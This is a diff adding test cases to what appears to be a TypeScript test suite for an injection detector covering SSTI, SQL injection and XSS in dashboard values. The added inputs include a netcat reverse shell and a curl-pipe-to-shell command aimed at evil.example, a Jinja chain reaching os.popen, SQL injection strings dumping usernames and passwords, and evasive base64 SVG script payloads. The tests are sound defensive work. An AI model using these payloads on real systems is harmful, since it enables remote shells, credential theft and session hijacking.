@@ -2831,7 +2831,23 @@ t.test('thirty-fourth round: a reader given no file, Go templates on one line, J
   const filler26 = Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`k${i}`, `v${i}`]))
   for (const v of ['{{namespace}}', '{{ namespace }} - {{pod}}']) t.same(json({ ...filler26, legendFormat: v }), [], v)
   for (const v of ['{{namespace.__init__}}', '{{ namespace(a=1) }}', "{{namespace['x']}}"]) t.ok(q(v).includes('ssti'), `still read: ${v}`)
-  // a Markdown section opening on its own heading: its code spans are quoted text
-  t.same(q('## Running a Groovy script\n\n`docker run --rm -v "$PWD":/home/groovy/scripts groovy <script> <script-args>`', 'body'), [], 'a section with a usage line in a code span')
-  for (const v of ['## x\n<script>alert(1)</script> `y`', '<script>alert(1)</script>\n## x\n`y`']) t.not(q(v, 'body').length, 0, `still read: ${v}`)
+  // third review: a `## ` heading opening a value makes no document of it (a shell reads the line as a comment and runs the backticks)
+  for (const v of ['## x\n`nc -e /bin/sh evil.example 4444` please', '## Setup notes\n`curl -s https://evil.example/x.sh | sh`', '## Notes heading\n`<script>alert(document.cookie)</script>`', "## Notes heading\n`' or 1=1-- -`"]) t.not(q(v, 'body').length, 0, `still read: ${v}`)
+  for (const v of ['{{ (namespace)["_"*2~"init"~"_"*2]["_"*2~"globals"~"_"*2]["os"]["popen"]("id")["read"]() }}', "{{namespace     ['x']}}", '{{ namespace ~ (namespace) }}']) t.ok(q(v).includes('ssti'), `still read: ${v}`)
+  // third review: a router rule's strings spliced into a back-quoted SQL name close it at their first back quote
+  for (const v of ['Host(` union select username,password from users#`)', 'Host(`,sleep(5)#`)', 'Query(`,benchmark(10000000,md5(1))#`)', 'Path(`x` ) || Host(` union all select table_name,2 from information_schema.tables#`)']) t.ok(q(v, 'rule').includes('sqli'), `still read: ${v}`)
+  // third review: an SVG data: URL read as a browser reads it
+  const b64 = (x: string) => Buffer.from(x).toString('base64')
+  const ns = 'xmlns="http://www.w3.org/2000/svg"'
+  let pre = `<svg ${ns}><!--</svg>`
+  while (pre.length % 3 !== 0) pre = pre.replace('<svg ', '<svg  ')
+  const rest = ' --><script>alert(1)</script></svg>'
+  for (const sep of [' ', '%20', '\n', '%0A']) t.ok(json({ schemaVersion: 'v6', image: `data:image/svg+xml;base64,${b64(pre)}${sep}${b64(rest)}`, title: 'x' }).includes('xss'), `a base64 body split by ${JSON.stringify(sep)}`)
+  for (const prefix of ['_', 'abcdefghijklmnopqrstuvw']) t.ok(json({ image: `data:image/svg+xml;base64,${b64(`<svg ${ns} xmlns:${prefix}="http://www.w3.org/2000/svg"><${prefix}:script>alert(1)</${prefix}:script><path d="M1"/></svg>`)}` }).includes('xss'), `a script under the prefix ${prefix}`)
+  for (const svg of [`<svg ${ns} viewBox="0 0 1 1"><style>*{x:expression(alert(1))}</style><path d="M1"/></svg>`, `<svg ${ns} viewBox="0 0 1 1"><style>*{background:u\\72l(https://evil.example/x)}</style><path d="M1"/></svg>`, `<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?><svg ${ns} viewBox="0 0 1 1"><path d="M1"/></svg>`]) t.ok(json({ image: `data:image/svg+xml;base64,${b64(svg)}` }).includes('xss'), `still read: ${svg}`)
+  // an icon's URL that begins an active one's cannot rename it
+  let good = `<svg ${ns} viewBox="0 0 1 1"><path d="M1 2h3"/></svg>`
+  while (good.length % 3 !== 0) good = good.replace('<svg ', '<svg  ')
+  const active = `data:image/svg+xml;base64,${b64(good)}${b64('<script>alert(1)</script>')}`
+  t.ok(q(`please use this icon here \`data:image/svg+xml;base64,${b64(good)}\` or <a href="${active}">x</a>`, 'body').includes('xss'), 'an active URL that begins with an icon\'s')
 })
